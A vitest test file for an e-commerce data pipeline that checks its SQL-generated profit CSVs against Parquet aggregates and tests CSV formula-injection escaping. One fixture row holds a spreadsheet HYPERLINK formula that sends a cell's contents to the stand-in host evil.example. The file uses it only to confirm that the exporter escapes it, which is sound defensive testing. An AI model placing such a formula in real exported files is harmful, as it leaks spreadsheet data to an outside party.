import { existsSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterAll, describe, expect, it } from 'vitest';
import {
  InputError,
  readParquet,
  runPipeline,
  runSqlAnswers,
  SQL_ANSWERS,
  tableRows,
  type RunSummary,
} from '../../src/index.js';
import { answersDir, KEPT_ANSWER_ROWS } from '../../src/sql/answers.js';
import { generateSources } from '../../fixtures/generate.js';
import { hasSample, sampleDir, tempDir } from '../helpers/tmp.js';
import { emptyWarehouse, lazy, removeLazyWarehouse, writeTable } from './warehouse.js';

const fixturesDir = join(import.meta.dirname, '../../fixtures');

/** Exact decimal text → hundredths, so sums stay exact. */
function cents(text: unknown): bigint {
  const m = /^(-?)(\d+)\.(\d{2})$/.exec(String(text));
  if (m === null) throw new Error(`not a 2-place decimal: ${String(text)}`);
  const v = BigInt(m[2]!) * 100n + BigInt(m[3]!);
  return m[1] ? -v : v;
}

function csvRows(warehouse: string, name: string): string[][] {
  return parse(readFileSync(join(warehouse, 'sql', `${name}.csv`), 'utf8'));
}

/** Sums profit over `rows` by the given key columns; keys as the CSV writes them (null → ''). */
function sumBy(rows: Record<string, unknown>[], keys: string[]): Map<string, bigint> {
  const out = new Map<string, bigint>();
  for (const r of rows) {
    const k = JSON.stringify(
      keys.map((c) => (r[c] === null || r[c] === undefined ? '' : String(r[c] as string | number))),
    );
    out.set(k, (out.get(k) ?? 0n) + cents(r['profit']));
  }
  return out;
}

function csvSums(rows: string[][]): Map<string, bigint> {
  const out = new Map<string, bigint>();
  for (const r of rows.slice(1)) out.set(JSON.stringify(r.slice(0, -1)), cents(r.at(-1)));
  return out;
}

/** Runs the pipeline on `input` and checks each SQL answer against the TypeScript aggregates. */
function agreesWithTransforms(label: string, input: () => Promise<string>): void {
  describe(`the SQL answers on ${label}`, () => {
    // made by the first test that runs, so collecting the file does no work
    const made = lazy(async () => {
      const dir = await input();
      const out = join(tempDir(), 'warehouse');
      return { dir, out, summary: await runPipeline({ input: dir, out }) };
    });
    afterAll(async () => {
      const state = made.made();
      if (state === undefined) return;
      const { dir, out } = await state;
      rmSync(dirname(out), { recursive: true, force: true });
      if (dir !== fixturesDir) rmSync(dir, { recursive: true, force: true });
    });
    const run = async (): Promise<RunSummary> => (await made()).summary;
    const warehouse = async (): Promise<string> => (await made()).out;
    const aggregate = async (name: string): Promise<Record<string, unknown>[]> =>
      tableRows(await readParquet(join(await warehouse(), 'aggregates', `${name}.parquet`)));

    it('writes the four CSVs with the contract columns', async () => {
      const summary = await run();
      const out = await warehouse();
      expect(summary.answers.map((a) => a.file)).toEqual(SQL_ANSWERS.map((n) => `sql/${n}.csv`));
      expect(SQL_ANSWERS.map((n) => csvRows(out, n)[0])).toEqual([
        ['order_year', 'profit'],
        ['order_year', 'category', 'profit'],
        ['customer_id', 'customer_name', 'profit'],
        ['customer_id', 'customer_name', 'order_year', 'profit'],
      ]);
      for (const n of SQL_ANSWERS)
        for (const row of csvRows(out, n).slice(1)) expect(row.at(-1)).toMatch(/^-?\d+\.\d\d$/);
    });

    it('profit_by_year equals aggregates.profit_by_year, ordered by year', async () => {
      const rows = csvRows(await warehouse(), 'profit_by_year');
      expect(csvSums(rows)).toEqual(sumBy(await aggregate('profit_by_year'), ['order_year']));
      const years = rows.slice(1).map((r) => Number(r[0]));
      expect(years).toEqual([...years].sort((a, b) => a - b));
    });

    it('profit_by_customer equals aggregates.profit_by_customer, most profitable first', async () => {
      const rows = csvRows(await warehouse(), 'profit_by_customer');
      expect(csvSums(rows)).toEqual(sumBy(await aggregate('profit_by_customer'), ['customer_id', 'customer_name']));
      const profits = rows.slice(1).map((r) => cents(r[2]));
      expect(profits).toEqual([...profits].sort((a, b) => (a < b ? 1 : a > b ? -1 : 0)));
    });

    it('profit_by_year_category and profit_by_customer_year equal sums over aggregates.profit_summary', async () => {
      const summary = await aggregate('profit_summary');
      expect(csvSums(csvRows(await warehouse(), 'profit_by_year_category'))).toEqual(
        sumBy(summary, ['order_year', 'category']),
      );
      expect(csvSums(csvRows(await warehouse(), 'profit_by_customer_year'))).toEqual(
        sumBy(summary, ['customer_id', 'customer_name', 'order_year']),
      );
    });

    it('every answer totals the profit of enriched/orders', async () => {
      const total = [...sumBy(await aggregate('profit_by_year'), []).values()][0];
      for (const n of SQL_ANSWERS) {
        expect(
          [...csvSums(csvRows(await warehouse(), n)).values()].reduce((a, b) => a + b, 0n),
          n,
        ).toBe(total);
      }
    });

    it('counts the rows it wrote, and keeps the rows of a small answer only', async () => {
      const summary = await run();
      const out = await warehouse();
      for (const a of summary.answers) {
        const written = csvRows(out, a.name).slice(1);
        expect(a.rowCount, a.name).toBe(written.length);
        expect(a.columns.map((c) => c.name)).toEqual(csvRows(out, a.name)[0]);
        if (a.rowCount > KEPT_ANSWER_ROWS) expect(a.rows, a.name).toBeNull();
        else expect(a.rows?.map((r) => r.map((c) => (c === null ? '' : String(c))))).toEqual(written);
      }
      expect(summary.answers[0]!.rows).not.toBeNull(); // profit by year: a handful of years
    });

    it('reruns the same over the committed warehouse; one profit_by_customer row per customer', async () => {
      const summary = await run();
      const out = await warehouse();
      const again = await runSqlAnswers(out);
      expect(again).toEqual(summary.answers);
      expect(summary.stageMs).toHaveProperty('sql');
      const customers = new Set(
        tableRows(await readParquet(join(out, 'enriched', 'orders.parquet'))).map((r) => r['customer_id']),
      );
      expect(csvRows(out, 'profit_by_customer').length - 1).toBe(customers.size);
    });
  });
}

agreesWithTransforms('the bundled fixtures', () => Promise.resolve(fixturesDir));
agreesWithTransforms('generated sources (3,000 lines)', async () => {
  const dir = tempDir();
  await generateSources({ lines: 3000, out: dir });
  return dir;
});

describe.skipIf(!hasSample)('the SQL answers on the shared sample', () => {
  const out = lazy(() => join(tempDir(), 'warehouse'));
  const run = lazy(async () => runPipeline({ input: sampleDir, out: await out() }));
  afterAll(async () => {
    const made = out.made();
    if (made !== undefined) rmSync(dirname(await made), { recursive: true, force: true });
  });

  it('gives the known profit by year', async () => {
    await run();
    expect(readFileSync(join(await out(), 'sql/profit_by_year.csv'), 'utf8')).toBe(
      'order_year,profit\n2014,39185.75\n2015,63073.09\n2016,65073.23\n2017,111084.96\n',
    );
  });

  it('agrees with aggregates and reruns the same over the committed warehouse', async () => {
    const summary = await run();
    const again = await runSqlAnswers(await out());
    expect(again).toEqual(summary.answers);
    expect(csvRows(await out(), 'profit_by_customer').length).toBe(794);
    expect(summary.stageMs).toHaveProperty('sql');
  });
});

describe('answersDir', () => {
  it('is the package sql/ folder, from src/ and from dist/ alike', () => {
    expect(answersDir).toBe(join(import.meta.dirname, '../../sql/'));
    for (const n of SQL_ANSWERS)
      expect(readFileSync(join(answersDir, `${n}.sql`), 'utf8')).toMatch(/from enriched\.orders/);
    const fromDist = new URL('../../sql/', 'file:///pkg/node_modules/ecomflow/dist/sql/answers.js');
    expect(fromDist.pathname).toBe('/pkg/node_modules/ecomflow/sql/');
  });
});

describe('the answer files against formula injection', () => {
  const made = lazy(() => emptyWarehouse());
  afterAll(async () => {
    await removeLazyWarehouse(made);
  });

  it('escapes text a spreadsheet would run, and writes negative profits as numbers', async () => {
    const wh = await made();
    await writeTable(
      wh,
      'enriched/orders.parquet',
      `select * from (values
        ('=HYPERLINK("http://evil.example/?d="&A1,"Claim")', '@SUM(1+1)', 2016, 'Furniture', -12.50::decimal(18,2)),
        ('-5', '+Jo', 2017, '-Chairs', 3.25::decimal(18,2)),
        ('CG-12520', 'Claire Gute', 2017, null, -0.05::decimal(18,2))
      ) t(customer_id, customer_name, order_year, category, profit)`,
    );
    await runSqlAnswers(wh);
    expect(readFileSync(join(wh, 'sql/profit_by_customer.csv'), 'utf8')).toBe(
      [
        'customer_id,customer_name,profit',
        "-5,'+Jo,3.25",
        'CG-12520,Claire Gute,-0.05',
        `"'=HYPERLINK(""http://evil.example/?d=""&A1,""Claim"")",'@SUM(1+1),-12.50`,
        '',
      ].join('\n'),
    );
    expect(readFileSync(join(wh, 'sql/profit_by_year_category.csv'), 'utf8')).toBe(
      "order_year,category,profit\n2016,Furniture,-12.50\n2017,'-Chairs,3.25\n2017,,-0.05\n",
    );
    expect(readFileSync(join(wh, 'sql/profit_by_year.csv'), 'utf8')).toBe(
      'order_year,profit\n2016,-12.50\n2017,3.20\n',
    );
  });
});

describe('the answers over a damaged enriched/orders', () => {
  const made = lazy(() => emptyWarehouse());
  afterAll(async () => {
    await removeLazyWarehouse(made);
  });

  it('fail as ecomflow sql fails, naming the file, and write no CSV', async () => {
    const wh = await made();
    writeFileSync(join(wh, 'enriched', 'orders.parquet'), 'PAR1 not really parquet');
    const failure = await runSqlAnswers(wh).catch((error: unknown) => error);
    expect(failure).toBeInstanceOf(InputError);
    expect((failure as Error).message).toMatch(/orders\.parquet/);
    expect(existsSync(join(wh, 'sql', 'profit_by_year.csv'))).toBe(false);
  });
});
